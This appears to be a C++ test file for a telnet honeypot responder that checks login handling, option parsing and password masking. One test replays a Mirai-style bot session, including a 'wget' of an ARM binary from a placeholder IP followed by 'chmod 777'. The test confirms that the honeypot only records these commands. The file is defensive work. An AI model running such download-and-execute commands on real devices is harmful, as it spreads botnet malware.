// Telnet: negotiation, login and what bots try in the shell.
#include <doctest/doctest.h>

#include "observe/respond/test_talk.hpp"

namespace hinomi::observe {
namespace {

constexpr std::string_view opening = "\xff\xfb\x01\xff\xfb\x03\r\nlogin: ";

TEST_CASE("Respond telnet_asks_for_login_and_ends_after_three") {
  const std::string wrong = test_password("root", false);
  const std::string once = "root\r\n" + wrong + "\r\n";
  const Spoken spoken = speak(SessionProtocol::telnet, {once + once + once + once});
  const std::string refused = "root\r\nPassword: \r\n\r\nLogin incorrect\r\n";
  CHECK(spoken.answered == std::string(opening) + refused + "login: " + refused + "login: " + refused);
  CHECK(spoken.session.credentials == std::vector<CredentialTry>(3, {"root", wrong, false}));
  CHECK(spoken.session.end == SessionEnd::by_responder);
}

TEST_CASE("Respond telnet_answers_the_words_of_mirai_and_runs_nothing") {
  const std::string password = test_password("admin", true);
  const Spoken spoken =
      speak(SessionProtocol::telnet,
            {"admin\r\n" + password +
             "\r\nenable\r\nsystem\r\nshell\r\nsh\r\n/bin/busybox ECCHI\r\n"
             "cd /tmp || cd /var; wget http://198.51.100.7/m.arm7; chmod 777 m.arm7\r\nexit\r\n"});
  CHECK(spoken.session.credentials == std::vector<CredentialTry>{{"admin", password, true}});
  CHECK(spoken.session.commands.size() == 7);
  CHECK(spoken.session.addresses_named == std::vector<std::string>{"http://198.51.100.7/m.arm7"});
  CHECK(spoken.answered.find("ECCHI: applet not found\r\n") != std::string::npos);
  CHECK(spoken.session.end == SessionEnd::by_responder);
  CHECK(spoken.events.back() == "closed");
}

TEST_CASE("Respond telnet_options_are_no_text") {
  const std::string password = test_password("a", false);
  const Spoken whole = speak(SessionProtocol::telnet, {std::string("\xff\xfd\x01\xff\xfa\x18\x01xyz\xff\xf0"
                                                                   "a\r\0\xff\xf1",
                                                                   17) +
                                                       password + "\n"});
  CHECK(whole.session.credentials == std::vector<CredentialTry>{{"a", password, false}});
}

TEST_CASE("Respond telnet_does_not_show_passwords") {
  const Spoken spoken = speak(SessionProtocol::telnet, {"root\r\nhidden"});
  CHECK(spoken.answered.find("hidden") == std::string::npos);
}

}  // namespace
}  // namespace hinomi::observe
